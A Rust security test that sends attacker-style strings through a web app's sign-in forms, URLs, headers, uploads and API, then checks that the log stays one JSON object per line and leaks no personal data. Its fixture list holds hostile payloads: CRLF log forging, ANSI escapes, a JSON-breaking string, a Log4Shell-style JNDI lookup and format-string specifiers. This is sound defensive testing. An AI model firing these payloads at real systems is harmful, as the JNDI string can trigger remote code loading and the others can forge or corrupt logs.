//! What an attacker writes into the log.

use crate::browser::encoded;
use crate::city::city;

#[test]
fn a_line_of_the_log_stays_one_object_and_names_nobody() {
    let city = city();
    let evil = [
        "\r\n{\"level\":\"ERROR\",\"fields\":{\"message\":\"forged-by-attack\"}}",
        "\u{1b}[31mforged-by-attack\u{1b}[0m",
        "\",\"forged-by-attack\":\"",
        "forged-by-attack\u{2028}\u{0}",
        "${jndi:ldap://forged-by-attack/}",
        "%n%s%x forged-by-attack",
    ];
    for text in evil {
        let mut browser = city.stranger();
        let csrf = browser.get("/desk/sign-in").hidden("csrf");
        browser.post("/desk/sign-in", &[("csrf", &csrf), ("account", text), ("password", text)]);
        let plain: String = text.chars().filter(|c| !c.is_control() && c.is_ascii()).collect();
        for path in ["/", "/guide/", "/desk/matters/", "/api/v1/matters/", "/static/"] {
            let at = format!("{path}{}?q={}", encoded(text), encoded(text));
            let headers = [
                ("User-Agent", plain.as_str()),
                ("X-Forwarded-For", &plain),
                ("Authorization", &plain),
                ("Referer", &plain),
            ];
            browser.ask("GET", &at, &headers, b"");
        }
        browser.upload("/verify", &[("text", text)], &[("receipt", &plain, text.as_bytes())]);
        let body = serde_json::json!({ "login": text, "password": text }).to_string();
        browser.ask("POST", "/api/v1/sessions", &[("Content-Type", "application/json")], body.as_bytes());
    }
    let log = city.log();
    assert!(log.lines().count() > 20, "it is written");
    for line in log.lines() {
        let object: serde_json::Value = serde_json::from_str(line).unwrap_or_else(|error| panic!("{error}: {line}"));
        assert!(object["level"].is_string() && object["target"].is_string(), "{line}");
        assert!(!line.contains("forged-by-attack") && !line.contains('\u{1b}'), "{line}");
    }
    for personal in
        ["周晓岚", "13900000040", "130600198001", "aid-east-clerk", city.password("aid-east-clerk"), "xz_account"]
    {
        assert!(!log.contains(personal), "the log names {personal}");
    }
}
